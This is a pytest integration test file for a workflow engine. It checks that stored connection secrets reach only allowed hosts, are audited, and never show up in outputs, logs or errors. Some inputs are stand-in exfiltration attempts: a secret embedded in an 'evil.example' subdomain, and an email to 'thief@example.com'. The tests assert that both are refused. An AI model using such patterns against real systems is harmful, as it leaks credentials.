"""Secrets in the input of a step: sent where they belong, recorded, and nowhere to be read afterwards."""

import json
from typing import Any

import pytest
from pytest_django.fixtures import Settings

from actions import markers, registry, secrets
from actions.context import Context
from actions.contract import Contract
from actions.errors import ActionError
from actions.invoke import Outcome, invoke
from actions.models import Connection
from actions.retry import Retry
from audit.models import AuditEvent
from tests.integration.actions.test_http_call import RUN, failed, run
from tests.integration.actions.web import Web

pytestmark = pytest.mark.django_db
CANARY, PASSWORD = 'canary-"t/1', "canary-pass&word"


@pytest.fixture
def secret(server: Web) -> dict[str, Any]:
    """Two connections for the server, and `$secrets` of a workflow that names both."""
    hosts = [f"127.0.0.1:{server.port}"]
    secrets.set_secret(Connection(name="shop", allowed_hosts=hosts), CANARY, actor="test")
    secrets.set_secret(
        Connection(name="crm", allowed_hosts=hosts), {"username": "ann", "password": PASSWORD}, actor="test"
    )
    return markers.scope(["shop", "crm"])


def send(value: Any, kind: str = "http-call") -> Outcome:
    return run(value, kind, secrets=["shop", "crm"])


def uses() -> list[dict[str, Any]]:
    rows = AuditEvent.objects.filter(kind="connection.used").order_by("id")
    return [json.loads(row.data) | {"in": str(row.run)} for row in rows]


def test_scope_gives_marks_and_never_values(secret: dict[str, Any]) -> None:
    assert set(secret["crm"]) == {"username", "password"}
    assert "canary" not in json.dumps(secret)
    assert markers.shorten(secret) == {
        "shop": "«secret shop.token»",
        "crm": {"username": "«secret crm.username»", "password": "«secret crm.password»"},
    }


def test_a_secret_that_is_not_there_or_cannot_be_read_is_named(settings: Settings, secret: dict[str, Any]) -> None:
    with pytest.raises(markers.UnknownSecret, match="no connection 'nope'"):
        markers.scope(["shop", "nope"])
    Connection.objects.create(name="empty")
    with pytest.raises(markers.UnknownSecret, match="'empty' has no secret yet"):
        markers.scope(["empty"])
    settings.SECRETS_KEYS = ["other:" + "A" * 43 + "="]
    with pytest.raises(markers.UnknownSecret, match="not in SECRETS_KEYS"):
        markers.scope(["shop"])


def test_a_secret_fills_header_query_body_path_and_authentication(server: Web, secret: dict[str, Any]) -> None:
    outcome = send(
        {
            "method": "post",
            "endpoint": {
                "uri": server.url(f"/echo/{secret['shop']}?k={secret['shop']}"),
                "authentication": {"basic": {"use": "crm"}},
            },
            "headers": {"X-Key": f"key {secret['shop']}"},
            "query": {"q": secret["crm"]["password"]},
            "body": {"deep": [secret["shop"]]},
            "output": "response",
        }
    )
    request = server.requests[0]
    assert request.path == "/echo/canary-%22t%2F1?k=canary-%22t%2F1&q=canary-pass%26word"
    assert request.headers["x-key"] == f"key {CANARY}"
    assert request.headers["authorization"] == "Basic YW5uOmNhbmFyeS1wYXNzJndvcmQ="
    assert json.loads(request.body) == {"deep": [CANARY]}
    assert_clean(outcome)
    assert outcome.output["content"]["headers"]["x-key"] == "key •••"
    host = f"127.0.0.1:{server.port}"
    step = {"run": RUN, "of_run": RUN, "step": "/do/0/get", "in": RUN, "host": host}
    assert uses() == [{"name": "shop", **step}, {"name": "crm", **step}]


@pytest.mark.parametrize("path", ["/echo", "/echo/binary", "/echo/refuse", "/cut"])
@pytest.mark.parametrize("output", ["content", "raw", "response"])
def test_a_server_that_repeats_a_secret_does_not_make_it_known(
    server: Web, secret: dict[str, Any], path: str, output: str
) -> None:
    headers = {"X-Key": secret["shop"], "X-Pass": secret["crm"]["password"]}
    body = {"key": secret["shop"]}
    value = {"method": "post", "endpoint": server.url(path), "headers": headers, "body": body, "output": output}
    assert_clean(send(value))


@pytest.mark.parametrize("hosts", [["api.example.com"], [], ["127.0.0.1:1"]])
def test_a_secret_does_not_leave_for_another_host(server: Web, secret: dict[str, Any], hosts: list[str]) -> None:
    Connection.objects.update(allowed_hosts=hosts)
    for value in (
        {"endpoint": server.url(), "headers": {"X-Key": secret["shop"]}},
        {"endpoint": server.url(f"/{secret['shop']}")},
        {"endpoint": server.url(), "body": secret["crm"]},
        {"endpoint": {"uri": server.url(), "authentication": {"bearer": {"token": secret["shop"]}}}},
        {"endpoint": {"uri": server.url(), "authentication": {"basic": {"use": "crm"}}}},
        {"endpoint": f"http://{secret['shop']}.evil.example/"},
    ):
        assert failed(send({"method": "post", **value}))[0] == "secret_refused", value
    assert server.requests == []
    assert uses() == []


def test_a_secret_is_not_sent_in_clear_to_a_host_that_nobody_vouched_for(
    server: Web, secret: dict[str, Any], settings: Settings
) -> None:
    settings.OUTGOING_ALLOW = ["127.0.0.0/8"]
    value = {"method": "get", "endpoint": server.url(), "headers": {"X-Key": secret["shop"]}}
    assert failed(send(value))[0] == "secret_refused"
    assert server.requests == []


def test_a_step_of_a_workflow_that_does_not_name_the_secret_sends_only_the_mark(
    server: Web, secret: dict[str, Any]
) -> None:
    assert run({"method": "get", "endpoint": server.url(), "headers": {"X-Key": secret["shop"]}}).ok
    assert server.requests[0].headers["x-key"] == secret["shop"]
    assert uses() == []


@pytest.mark.parametrize(
    ("use", "why"),
    [
        ({"bearer": {"use": "crm"}}, "has no 'token'"),
        ({"basic": {"use": "shop"}}, "has no 'username'"),
        ({"basic": {"use": "other"}}, "does not name the secret"),
    ],
)
def test_a_secret_that_does_not_fit_the_authentication_is_named(
    server: Web, secret: dict[str, Any], use: Any, why: str
) -> None:
    outcome = send({"method": "get", "endpoint": {"uri": server.url(), "authentication": use}})
    assert failed(outcome)[0] == "secret_refused"
    assert outcome.failure is not None
    assert why in outcome.failure.message
    assert server.requests == []


def test_an_action_gets_the_secret_its_log_error_and_result_do_not(server: Web, secret: dict[str, Any]) -> None:
    registry.discover()
    for kind, config, ok in (
        ("http", {"method": "POST", "url": server.url("/echo")}, True),
        ("http", {"method": "POST", "url": server.url("/echo/refuse")}, False),
        ("python", {"name": "test-tell", "version": "1.0.0"}, True),
        ("python", {"name": "test-tell-and-fail", "version": "1.0.0"}, False),
    ):
        outcome = action(kind, config, {"key": secret["shop"]})
        assert outcome.ok is ok, outcome
        assert_clean(outcome)
        assert "•••" in json.dumps([outcome.output, outcome.log, str(outcome.failure)], ensure_ascii=False)
    assert json.loads(server.requests[0].body) == {"key": CANARY}
    assert [use["host"] for use in uses()] == [f"127.0.0.1:{server.port}"] * 2 + ["", ""]


def test_an_action_for_another_host_does_not_get_the_secret(server: Web, secret: dict[str, Any]) -> None:
    Connection.objects.update(allowed_hosts=["api.example.com"])
    outcome = action("http", {"method": "POST", "url": server.url("/echo")}, {"key": secret["shop"]})
    assert failed(outcome)[0] == "secret_refused"
    mail = {"to": "thief@example.com", "subject": "x", "text": "{{ key }}"}
    assert failed(action("email", mail, {"key": secret["shop"]}))[0] == "secret_refused"
    assert server.requests == []


def test_a_secret_that_goes_nowhere_is_not_handed_to_code_either(secret: dict[str, Any]) -> None:
    Connection.objects.update(allowed_hosts=[])
    assert failed(action("python", {"name": "test-tell", "version": "1.0.0"}, {"key": secret["shop"]}))[0] == (
        "secret_refused"
    )


def test_the_schema_of_an_action_sees_the_secret_and_its_error_does_not_show_it(secret: dict[str, Any]) -> None:
    schema = {"properties": {"key": {"type": "string", "maxLength": 3}}}
    outcome = action("python", {"name": "test-tell", "version": "1.0.0"}, {"key": secret["shop"]}, schema)
    assert failed(outcome)[0] == "invalid_input"
    assert_clean(outcome)


def test_a_secret_with_a_lost_key_is_an_error_and_no_value(
    server: Web, secret: dict[str, Any], settings: Settings
) -> None:
    Connection.objects.filter(name="shop").update(ciphertext="gone$AAAA$AAAA")
    outcome = send({"method": "get", "endpoint": server.url(), "headers": {"X-Key": secret["shop"]}})
    assert failed(outcome)[0] == "secret_unreadable"
    assert server.requests == []


def test_a_use_outside_of_a_step_is_recorded_too(secret: dict[str, Any]) -> None:
    assert secrets.use("shop") == {"token": CANARY}
    with pytest.raises(ActionError, match="no_connection"):
        secrets.use("nope")
    assert uses() == [{"name": "shop", "host": "", "in": "None"}]


def action(kind: str, config: dict[str, Any], value: Any, schema: dict[str, Any] | None = None) -> Outcome:
    contract = Contract(kind, config, schema or {}, {}, Retry().as_dict(), 3_000, "keyed", False, "retry", "default")
    return invoke(contract, value, Context(RUN, "/do/0/get", 1, "run:step", 7, secret_names=["shop", "crm"]))


def assert_clean(outcome: Outcome) -> None:
    """Check that neither a secret nor an encoded form of one is in what is kept."""
    kept = json.dumps([outcome.output, outcome.log, outcome.failure and outcome.failure.as_dict()])
    for trace in ("canary", "Y2FuYXJ5", "NhbmFyeS", "jYW5hcnkt"):  # the same in base64, at each of its offsets
        assert trace not in kept
